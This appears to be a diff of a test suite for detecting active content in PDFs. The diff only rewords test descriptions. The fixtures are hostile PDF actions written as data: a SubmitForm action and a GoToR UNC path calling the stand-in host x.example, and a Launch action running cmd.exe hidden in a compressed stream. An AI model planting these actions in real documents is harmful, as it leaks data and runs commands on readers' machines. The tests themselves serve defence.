@@ -120,7 +120,7 @@ describe('T-D2: a PDF with active content', () => {
       makePdf('x', '/AA << /WC << /S /SubmitForm /F (https://x.example) >> >>'),
     ],
     [
-      'asks another machine for a file, which is told who opens it',
+      'asks another machine for a file, which learns who opens it',
       makePdf('x', '/OpenAction << /S /GoToR /F (\\\\x.example\\a.pdf) /D [0 /Fit] >>'),
     ],
     [
@@ -138,7 +138,7 @@ describe('T-D2: a PDF with active content', () => {
     ],
     ['packs it away', makePdf('x', '', [packed('<< /S /Launch /F (cmd.exe) >>')])],
     [
-      'packs it away so that nobody can look',
+      'hides it in a compressed stream',
       makePdf('x', '', [
         packed('<< >>').replace('/FlateDecode', '/LZWDecode').replace('stream\nx', 'stream\n?'),
       ]),
